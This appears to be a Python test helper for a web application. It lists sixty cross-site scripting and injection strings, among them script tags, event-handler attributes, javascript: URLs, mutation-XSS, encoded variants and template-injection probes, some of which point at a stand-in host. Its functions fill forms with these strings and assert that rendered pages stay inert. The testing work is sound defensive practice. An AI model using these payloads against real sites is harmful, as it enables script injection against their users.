"""Sixty texts that would do something if any page took one for more than text, and what a page may hold at all."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from urllib.parse import urlsplit

from tests.http.pages.reading import Node

HOSTILE = (
    # elements
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.example/1.js></sCrIpT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script\x0b>alert(3)</script >",
    "</script><script>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<img/src/onerror=alert(6)//",
    '<IMG SRC="jav&#x09;ascript:alert(7);">',
    "<image src=x onerror=alert(8)>",
    "<iframe src=javascript:alert(9)></iframe>",
    "<iframe srcdoc='<b onclick=alert(10)>'>",
    "<object data=javascript:alert(11)>",
    "<embed src=data:text/html,<b>12</b>>",
    "<video><source onerror=alert(13)>",
    "<audio src=x onerror=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<body onload=alert(16)>",
    "<marquee onstart=alert(17)>",
    "<input autofocus onfocus=alert(18)>",
    "<select autofocus onfocus=alert(19)>",
    "<form action=//x.example><button>20",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x>",
    "<link rel=stylesheet href=//x.example/23>",
    "<keygen autofocus onfocus=alert(24)>",
    "<x contenteditable onblur=alert(25)>26",
    "<a href=javascript:alert(27)>27</a>",
    # out of an attribute, a comment, a field
    '" onmouseover="alert(28)',
    "' onmouseover='alert(29)",
    "` onmouseover=alert(30) `",
    '"><svg onload=alert(31)>',
    "'><b id=thirty-two>",
    '" autofocus onfocus=alert(33) x="',
    "</title><b onclick=alert(34)>",
    "</textarea><b onclick=alert(35)>",
    "</style><b onclick=alert(36)>",
    "--><b onclick=alert(37)><!--",
    "]]><b onclick=alert(38)>",
    "<!--[if gte IE 4]><b id=39><![endif]-->",
    # addresses
    "javascript:alert(40)",
    "JaVaScRiPt&colon;alert(41)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(43)",
    "//x.example/%2f..",
    # drawings, and what is read twice
    "<svg><script>alert(45)</script></svg>",
    "<svg><animate onbegin=alert(46) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(47)>47",
    "<math><mi xlink:href=javascript:alert(48)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(49)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(50)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(51)>",
    "&lt;img src=x onerror=alert(52)&gt;",
    "%3Cscript%3Ealert(53)%3C/script%3E",
    "\uff1cscript\uff1ealert(54)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(55)+ADw-/script+AD4-",
    # templates and formats
    "{{7*7}} {% raw %} {# #} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ self.__class__.__mro__ }} %(name)s %n {0.__class__}",
    # sheets, and signs that nobody sees
    "x;background:url(//x.example/58)} * {color:red",
    "\u202e>tpircs/<)95(trela>tpircs<\u202c",
    "<\u200bscript>alert(60)</scr\u00adipt>\u2066\ufeff",
)
WRITTEN_INTO = ("text", "search", "email", "tel")
GOES_TO = {"", "http", "https", "tel", "geo", "sms"}
WHERE = ("href", "src", "action", "formaction", "data-href", "poster", "xlink:href")


def pieces(most: int) -> Iterator[str]:
    """All of them, as many as fit into `most` signs at a time."""
    held = ""
    for one in HOSTILE:
        if held and len(held) + len(one) >= most:
            yield held
            held = ""
        held = f"{held} {one}".strip()
    yield held


def made_of(page: Node) -> set[str]:
    """The elements of a page and their attributes by name, each once: `a`, `a[href]`."""
    found = set()
    for node in _all(page):
        found.add(node.tag)
        found |= {f"{node.tag}[{name}]" for name in node.attributes}
    return found


def require_inert(page: Node, known: set[str], where: object) -> None:
    """The page holds nothing that it does not hold with harmless texts, and leads nowhere strange."""
    assert made_of(page) <= known, (where, made_of(page) - known)
    for node in _all(page):
        assert not [name for name in node.attributes if name.startswith("on") or name == "style"], where
        for name in WHERE:
            target = node.attributes.get(name, "").strip().lower()
            assert urlsplit(target).scheme in GOES_TO, (where, target)
            assert not target.startswith("//"), (where, target)


def filled_forms(page: Node, texts: cycle[str]) -> Iterator[tuple[str, dict[str, str]]]:
    """Where each form goes that somebody writes into, with one of `texts` in every field for text."""
    for form in page.every("form"):
        boxes = list(form.every("input", "textarea"))
        typed = [
            box
            for box in boxes
            if box.tag == "textarea" or box.attributes.get("type", "text") in WRITTEN_INTO
        ]
        if form.attributes.get("method") != "post" or not typed:
            continue
        values = {box.attributes.get("name", ""): box.attributes.get("value", "") for box in boxes}
        for box in form.every("select"):
            values[box.attributes["name"]] = next(box.every("option")).attributes["value"]
        text = next(texts)
        for box in typed:
            most = int(box.attributes.get("maxlength", "2000"))
            values[box.attributes["name"]] = text[:most]
        yield form.attributes.get("action", ""), values


def _all(page: Node) -> Iterator[Node]:
    for child in page.children:
        if isinstance(child, Node):
            yield child
            yield from _all(child)
